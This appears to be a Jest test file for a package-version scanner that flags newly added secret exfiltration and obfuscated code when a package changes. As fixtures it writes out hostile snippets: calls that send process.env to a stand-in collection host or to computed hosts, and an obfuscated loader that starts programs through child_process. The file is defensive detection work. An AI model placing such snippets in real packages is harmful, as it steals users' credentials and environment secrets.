import { describe, expect, test } from '@jest/globals';
import { minify } from 'terser';
import type { CodeDelta, CodeProfile } from '../../../src/packages/profile.types.js';
import { deltaOf } from '../../../src/packages/delta/delta.js';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import { judgePair, type Judged } from '../../attacks/pair.js';
import { filesOf } from '../profile/files.js';

/** A client that tells its service, at an address that it makes up, of the whole environment when it is loaded. */
const client = `
const http = require('https');
const region = process.env.SERVICE_REGION;
function addressOf(kind) { return ['https:', '', region, kind, 'events'].join('/'); }
function report(kind, details) {
  const request = http.request(addressOf(kind), { method: 'POST', headers: { 'content-type': 'application/json' } });
  request.on('error', () => undefined);
  request.end(JSON.stringify({ kind, details, at: Date.now() }));
}
class Client {
  constructor(options) { this.options = Object.assign({ retries: 3, timeout: 10000 }, options); }
  track(name, properties) { return report('track', { name, properties, options: this.options }); }
}
report('start', Object.assign({}, process.env));
module.exports = { Client, addressOf };
`;
/** Other code that a bundle holds beside it. */
const rest = (from: number, to: number): string => Array.from({ length: to - from }, (_, at) => `function part${from + at}(first, second) { const list = [first, second, ${from + at}, 'part ${from + at}']; return list.map((one) => String(one) + second).join('-'); }\nexports.part${from + at} = part${from + at};`).join('\n');
const theft = (url: string): string => `
require('https').request(${url}, { method: 'PUT', headers: { accept: '*/*' } }).end(Buffer.from(JSON.stringify([process.env, process.argv])));
`;

const profileOf = (text: string): CodeProfile => profilePackage({ files: filesOf({ 'index.js': text, 'package.json': '{"name":"client","main":"index.js"}' }) }).value;
const added = (before: string, after: string): CodeDelta => deltaOf(profileOf(after), [profileOf(before)]);
const judged = (before: string, after: string): Promise<Judged> => {
  const version = (number: string, text: string, at: string) => ({ version: number, publishedAt: at, files: { 'index.js': text }, manifest: { main: 'index.js' } });
  return judgePair({ name: 'client', before: version('1.0.0', before, '2026-01-01T00:00:00.000Z'), after: version('1.0.1', after, '2026-10-01T00:00:00.000Z') } as never);
};
const told = ({ findings }: Judged): readonly string[] => findings.filter(({ level }) => level === 'default').map(({ check, message, severity }) => `${severity} ${check} ${message}`);

describe('a package that sends the environment already', () => {
  test('is seen to do so, and is nothing new by itself', async () => {
    expect(profileOf(client).flows).toMatchObject([{ source: 'environment', sink: 'network', trigger: 'load', hosts: [] }]);
    expect(told(await judged(client, `${client}\n${rest(0, 3)}`))).toEqual([]);
  });

  test.each([
    ['another host that is written out', theft(`'https://collect.example.invalid/x'`), 'critical|high secret-exfiltration at-load'],
    ['another host that is not', theft(`'https://' + require('./package.json').name.split('').reverse().join('') + '.' + (process.argv[9] || 'x')`), 'high secret-exfiltration again-at-load'],
    ['another host that is not, by fetch', `fetch(['https:', '', String(process.pid), 'x'].join('/'), { method: 'POST', body: Buffer.from(JSON.stringify({ ...process.env })).toString('base64') });`, 'high secret-exfiltration again-at-load'],
  ])('a stolen version of it appends a way to %s', async (_, code, wanted) => {
    const found = await judged(client, client + code);
    expect(found.outcome).toBe('block');
    expect(told(found)).toEqual([expect.stringMatching(new RegExp(`^(?:${wanted.split(' ')[0]}) ${wanted.split(' ').slice(1).join(' ')}$`))]);
  });

  test('which lines are new is said', async () => {
    const code = theft(`'https://' + process.pid + process.argv[9]`);
    const [finding] = (await judged(client, client + code)).findings.filter(({ check }) => check === 'secret-exfiltration');
    const line = (client + code).split('\n').findIndex((one) => one.includes('process.argv[9]')) + 1;
    expect(finding).toMatchObject({ message: 'again-at-load', data: { line, lines: `index.js:${line}` } });
  });

  test('what was gathered for the old way is sent another way too', async () => {
    const before = client.replace(`report('start', Object.assign({}, process.env));`, `const seen = Object.assign({ pid: process.pid, started: Date.now(), name: 'client' }, process.env);\nreport('start', seen);`);
    expect(told(await judged(before, `${before}require('https').request('https://' + process.argv[9], { method: 'PUT' }).end(JSON.stringify([seen, process.pid, 'x']));`))).toEqual(['high secret-exfiltration again-at-load']);
  });

  test('a rewritten way in the place of the old one is told, and does not block', async () => {
    const rewritten = client.replace(`report('start', Object.assign({}, process.env));`, `const seen = JSON.parse(JSON.stringify({ ...process.env, pid: process.pid })); seen.kind = 'begin'; report(seen.kind, seen);`)
      .replace('request.end(JSON.stringify({ kind, details, at: Date.now() }));', 'request.setHeader("x-kind", kind); request.write(JSON.stringify({ kind, details, at: Date.now(), pid: process.pid })); request.end();');
    const found = await judged(client, rewritten);
    expect(found.outcome).not.toBe('block');
    expect(told(found).filter((one) => !one.startsWith('medium'))).toEqual([]);
  });
});

describe('a line that was made unreadable, put before a bundle', () => {
  const run = `\nrequire('child_process').execFile(process.execPath, ['-p', '1'].concat(process.argv.slice(9)), { env: {} }, () => undefined);\n`;
  const names = ['\\x63\\x68', '_0x77'];
  const scrambled = `var _0x1f3a=['${names[0]}','${names[1]}'],_0x2b4c=function(_0x3d1e,_0x4f2a){_0x3d1e=_0x3d1e-0x0;var _0x5a6b=_0x1f3a[_0x3d1e];return _0x5a6b;};(function(_0x6c7d,_0x7e8f){var _0x8a9b=_0x2b4c;return _0x8a9b(_0x6c7d,_0x7e8f);}(0x0,0x1));require('child_process').execFile(process.execPath,['-e',_0x2b4c(0x0)+_0x2b4c(0x1)+process.argv[0x9]],{windowsHide:!0},function(_0xb1c2){_0xb1c2;});`;
  const bundle = client + rest(0, 40) + run;

  test.each([
    ['where nothing was scrambled', bundle],
    // As a package ships that has something scrambled of its own: it still stands, and another one came beside it.
    ['where something else was', `${bundle}\n${scrambled.replaceAll('_0x', '_0xa').replace('execFile(process.execPath', 'noop(process.execPath').replace("require('child_process')", '({ noop() {} })')}`],
  ])('stands out %s, though the package starts programs already', async (_, before) => {
    const found = await judged(before, `${scrambled}\n${before}`);
    expect(found.outcome).toBe('block');
    expect(told(found)).toEqual(expect.arrayContaining([expect.stringMatching(/^high obfuscated-code at-load$/)]));
  });

  test('programs that are started by new statements are known beside those that were', () => {
    expect(added(bundle, `${scrambled}\n${bundle}`).further).toMatchObject([{ path: 'index.js', line: 1 }]);
    expect(added(bundle, bundle).further).toEqual([]);
  });
});

describe('a host behind many others', () => {
  const hosts = (count: number): readonly string[] => Array.from({ length: count }, (_, at) => `'https://api${at}.example/events'`);
  const sends = (all: readonly string[]): string => `const all = [${all.join(', ')}];\nfor (const url of all) fetch(url, { method: 'POST', headers: { a: 'b' }, body: JSON.stringify(process.env) });\n`;

  test('is not told, and it is said that there are more', () => {
    expect(profileOf(sends(hosts(3))).flows).toMatchObject([{ hosts: ['api0.example', 'api1.example', 'api2.example'] }]);
    expect(profileOf(sends(hosts(3))).flows[0]).not.toHaveProperty('moreHosts');
    const [flow] = profileOf(sends(hosts(40))).flows;
    expect(flow!.hosts.length).toBeLessThanOrEqual(16);
    expect(flow).toMatchObject({ moreHosts: true });
  });

  test.each([
    ['few hosts stood', 3], ['as many stood as are told', 16], ['more stood than are told', 30],
  ])('stands out where %s', async (_, count) => {
    const before = sends(hosts(count));
    const found = await judged(before, `${before}\nconst more = [${hosts(count).join(', ')}, 'https://collect.example.invalid/x'];\nfor (const one of more) fetch(one, { method: 'PUT', keepalive: true, body: Buffer.from(JSON.stringify(process.env)).toString('hex') });`);
    expect(found.outcome).toBe('block');
    expect(told(found).some((one) => /^(?:high|critical) secret-exfiltration/.test(one))).toBe(true);
  });
});

describe('nothing is new', () => {
  const minified = async (text: string, more: object = {}): Promise<string> => (await minify(`(function(){${text}})()`, { compress: false, mangle: { toplevel: true }, ...more })).code!;
  const bundle = client + theft(`'https://' + process.pid`) + rest(0, 30);

  test.each([
    ['the same statements in another order', (): string => rest(0, 30) + client + theft(`'https://' + process.pid`)],
    ['other code around them', (): string => rest(50, 70) + client + rest(0, 30) + theft(`'https://' + process.pid`)],
  ])('%s', (_, after) => {
    const { flows, further } = added(bundle, after());
    expect([flows, further]).toEqual([[], []]);
  });

  test('a bundle is minified anew with other code in it, so that each name is another', async () => {
    const [before, after] = [await minified(bundle), await minified(`${rest(50, 90)}${bundle}`)];
    expect(before).not.toContain('addressOf(');
    expect(after).not.toContain(before.slice(before.indexOf('request'), before.indexOf('request') + 200));
    const { flows, further } = added(before, after);
    expect([flows, further]).toEqual([[], []]);
  });
});

describe('a way through more functions than in any attack that was rebuilt', () => {
  const passes = (count: number): string => Array.from({ length: count }, (_, at) => `function pass${at}(given) { return pass${at + 1}(given); }`).join('\n');
  const sink = `function pass15(given) { fetch('https://collect.example.invalid/' + process.pid, { method: 'POST', headers: { a: 'b', c: 'd' }, body: given, keepalive: true }); }`;
  const source = `function gathered(why) { return JSON.stringify({ all: Object.assign({}, process.env), why, list: [1, 2, 3, 4], at: Date.now() }); }`;
  const whole = [passes(15), sink, source, `pass0(gathered('started'));`].join('\n');

  test.each([
    ['in a new file', 'exports.a = 1;', 'block'],
    ['where the source stood', `${source}\nexports.gathered = gathered;`, 'block'],
    // The same text is sent on call, with something else: the sink is nothing new. Who joins something to it need not go so far.
    ['where the sink stood', `${passes(15)}\n${sink}\nexports.pass0 = pass0;`, 'not high'],
    ['where both stood, and only the way is new', `${passes(15)}\n${sink}\n${source}\nexports.pass0 = pass0; exports.gathered = gathered; fetch('https://api.example/' + gathered('x').length, { headers: process.env.A });`, 'not high'],
  ])('%s', async (_, before, wanted) => {
    const found = await judged(before, `${before.replaceAll(/^function .*\n?/gm, '')}\n${whole}`);
    expect(found.profile.flows.some(({ source: from, hops }) => from === 'environment' && hops > 12)).toBe(true);
    if (wanted === 'block') expect(found.outcome).toBe('block');
    else expect(told(found).filter((one) => !one.startsWith('medium'))).toEqual([]);
  });

  test('where nothing is there to compare with', async () => {
    const found = await judgePair({ name: 'client', after: { version: '1.0.1', publishedAt: '2026-10-01T00:00:00.000Z', files: { 'index.js': whole }, manifest: { main: 'index.js' } } } as never);
    expect(found.outcome).toBe('block');
  });
});
